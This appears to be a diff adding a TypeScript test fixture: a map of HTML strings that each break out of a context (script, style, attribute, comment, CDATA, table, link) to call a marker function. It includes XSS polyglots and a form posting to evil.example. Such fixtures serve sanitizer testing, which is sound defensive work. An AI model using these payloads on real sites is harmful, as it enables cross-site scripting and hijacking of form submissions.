@@ -1,0 +1,35 @@
+/** Tags that would end the place where a text stands, or begin the next. */
+export const breakers: Record<string, string> = {
+  "ends of everything": "</p></div></section></main></body></html><p>after</p>",
+  "ends of a block":
+    "</div></div></div></div></div></div></div></div><div data-block=form data-wake=load data-src=/x.js>",
+  "ends of the content":
+    "</main><header>h</header><nav>n</nav><footer>f</footer><main id=main>m</main><aside>a</aside>",
+  "end of a script": "</script><script>fired()</script>",
+  "end of a script in text": `"};</script><script>fired()</script>`,
+  "end of a style": "</style><script>fired()</script>",
+  "end of a title": "</title><script>fired()</script>",
+  "end of a text area": "</textarea><script>fired()</script>",
+  "end of a head": "</head><body onload=fired()>",
+  "end of an attribute": `"><script>fired()</script>`,
+  "end of an attribute in single quotes": "'><script>fired()</script>",
+  "end of an attribute with a handler": `" onmouseover="fired()" x="`,
+  "end of an attribute without quotes": " onmouseover=fired() x=",
+  "end of a comment": "--><script>fired()</script><!--",
+  "end of character data": "]]><script>fired()</script><![CDATA[",
+  "end of a template text": "${fired()}`;fired();//",
+  "end of a table": "</td></tr></table><img src=x onerror=fired()>",
+  "end of a list": "</li></ul><img src=x onerror=fired()>",
+  "end of a link": "</a><a href=javascript:fired()>a</a>",
+  "end of a form": "</select></form><form action=https://evil.example/><input name=x></form>",
+  "begin of a comment": "<p>before</p><!-- <p>swallowed</p>",
+  "begin of an attribute": `<p>before</p><p title="swallowed`,
+  "begin of a link": "<p>before</p><a href=/x",
+  "begin of a tag": "<p>before</p><",
+  "begin of character data": "<p>before</p><![CDATA[ swallowed",
+  "begin of a script comment": "<!--<script",
+  "many blocks":
+    "<main>m</main><header>h</header><footer>f</footer><nav>n</nav><aside>a</aside><article>x</article>",
+  polyglot: `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=fired() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=fired()//>\\x3e`,
+  "polyglot of attributes": `'">><marquee><img src=x onerror=fired()></marquee></plaintext\\></|\\><plaintext/onmouseover=fired()><script>fired()</script>@gmail.com<isindex formaction=javascript:fired() type=submit>'-->"></script>`,
+};
